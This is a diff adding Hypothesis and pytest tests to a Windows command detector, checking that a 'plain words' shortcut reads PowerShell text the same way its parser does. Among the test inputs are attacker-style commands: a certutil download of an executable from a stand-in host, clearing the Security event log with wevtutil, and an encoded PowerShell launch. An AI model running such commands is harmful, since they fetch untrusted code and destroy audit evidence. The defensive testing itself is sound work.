@@ -3,19 +3,22 @@
 Each speed-up skips a step when a cheap check shows the step cannot change anything (no ``hk``
 prefix: no hive renaming; fewer than three dots: no IPv4 address; no dot: no ``.exe`` suffix),
 or starts a search where an earlier one already looked (the excerpt is cut from the first pattern
-the RE2 set reported). These properties hold each shortcut against the plain definition it replaces,
-on generated text built from the characters that matter to it.
+the RE2 set reported), or reads a text of plain words without its parser. These properties hold
+each shortcut against the plain definition it replaces, on generated text built from the
+characters that matter to it.
 """
 
 from __future__ import annotations
 
 import re
+from unittest.mock import patch
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
 from ssm_warden.detect.windows import detector as detector_module
+from ssm_warden.detect.windows import powershell as powershell_module
 from ssm_warden.detect.windows import windows_detector
 from ssm_warden.detect.windows.facts import (
     _HIVES,
@@ -26,8 +29,10 @@ from ssm_warden.detect.windows.facts import (
     ipv4_addresses,
     normalise_path,
 )
+from ssm_warden.detect.windows.plain import plain_words
+from ssm_warden.detect.windows.powershell import read_powershell
 from ssm_warden.detect.windows.programs import _EXE_SUFFIX, ALIASES, canonical_program
-from ssm_warden.detect.windows.reading import Command
+from ssm_warden.detect.windows.reading import Command, Reading
 
 # Pieces that the skipped steps look for, with near misses and look-alikes (K is KELVIN SIGN, which
 # matches "k" case-insensitively).
@@ -180,3 +185,131 @@ def test_an_excerpt_is_cut_where_searching_every_pattern_from_the_first_would_cu
     plain = [[f.reason for f in detector.judge_command(t, s)] for t, s in examples]
     assert sum(len(r) for r in shortcut) > 100  # the examples do produce findings to compare
     assert shortcut == plain
+
+
+# Words and near misses for the plain-words reading: keywords, numbers, parameters with a colon or
+# a digit, paths, operators spelled like parameters, separators.
+_WORD_PIECES = st.sampled_from(
+    [
+        "a",
+        "x",
+        "e",
+        "_",
+        "x_",
+        "A1",
+        "x1",
+        "1x",
+        "1",
+        "0x1",
+        "1.5",
+        "5d",
+        "1mb",
+        "-",
+        "--",
+        "--%",
+        "-x",
+        "-1",
+        "-5",
+        "-a:b",
+        "-c:",
+        "-and",
+        "-eq",
+        "-Encoded",
+        ".",
+        "..",
+        "./",
+        ".\\",
+        "..\\x",
+        "\\",
+        "\\\\h\\s",
+        "/",
+        "/c",
+        ":",
+        "C:",
+        "c:\\x",
+        "a:b",
+        "a.b",
+        "x.exe",
+        "v1.0",
+        " ",
+        "  ",
+        "if",
+        "IF",
+        "For",
+        "for",
+        "foreach",
+        "function",
+        "param",
+        "in",
+        "Foreach-Object",
+        "Get-Item",
+        "iwr",
+        "sal",
+        "set-alias",
+        "New-Alias",
+        "powershell",
+    ]
+)
+
+
+def _reading_of(text: str) -> Reading:
+    reading = Reading()
+    read_powershell(text, reading)
+    return reading
+
+
+def _read_both_ways(text: str) -> tuple[Reading, Reading]:
+    shortcut = _reading_of(text)
+    with patch.object(powershell_module, "plain_words", lambda _text: None):
+        parsed = _reading_of(text)
+    return shortcut, parsed
+
+
+@settings(max_examples=3000, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
+@given(st.lists(_WORD_PIECES, min_size=1, max_size=6).map("".join))
+def test_plain_words_are_read_as_the_parser_reads_them(text: str) -> None:
+    assume(plain_words(text) is not None)
+    shortcut, parsed = _read_both_ways(text)
+    assert shortcut == parsed
+
+
+# Texts of the characters plain words allow that the parser reads otherwise, one per rule of
+# ``plain_words`` (found by the generator above over many more examples than it runs here).
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "  param-and0x10x1  ",  # a dash, letters, a digit: an operator and a number to the grammar
+        "param-5param",  # a digit after a sign: a number
+        "for forfor",  # a keyword first
+        "param paramparam",
+        "Foreach-Object .a",  # a name starting with a keyword
+        "a 0x1",  # an argument starting with a digit
+        "x -- 0x1",
+        "a -or1",  # a parameter with a digit
+        "x1  -x.  x1",  # a parameter with a dot
+        "Get-Item -a:b",  # a parameter with a colon is two arguments
+        "a -x:",
+        "a :",
+    ],
+)
+def test_what_the_parser_reads_otherwise_is_not_plain_words(typed: str) -> None:
+    shortcut, parsed = _read_both_ways(typed)
+    with patch.object(powershell_module, "plain_words", lambda text: text.split()):
+        forced = _reading_of(typed)
+    assert plain_words(typed) is None
+    assert shortcut == parsed
+    assert forced != parsed  # the reading without the parser would be wrong here
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "Get-Service -Name w3svc",
+        "ipconfig /all",
+        "C:\\Windows\\System32\\certutil.exe -urlcache -f http://x/a.exe a.exe",
+        "wevtutil cl Security",
+        "powershell -enc QQBBAEEA",
+    ],
+)
+def test_everyday_commands_take_the_plain_words_reading(typed: str) -> None:
+    assert plain_words(typed) == typed.split()
